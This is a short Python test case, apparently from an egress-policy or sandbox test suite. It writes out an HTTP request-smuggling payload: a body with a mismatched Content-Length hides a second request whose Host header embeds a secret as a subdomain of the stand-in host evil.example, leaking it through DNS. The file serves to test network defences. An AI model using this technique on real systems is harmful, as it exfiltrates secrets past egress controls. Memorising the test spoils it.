# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: the second request on a kept connection names another host, and begins in the last bytes
#   of the first request's body
# proof: word
# needs: resolver
from attack import SECRET, at_allowed, attempt


def say(out):
    out.send(b"POST / HTTP/1.1\r\nHost: plain.allowed.example\r\nContent-Length: 4\r\n\r\nab")
    out.send(b"cdGET / HTTP/1.1\r\nHost: " + SECRET.encode() + b".evil.example\r\n\r\n")


@attempt
def ask():
    return at_allowed(say, "plain.allowed.example", 80)
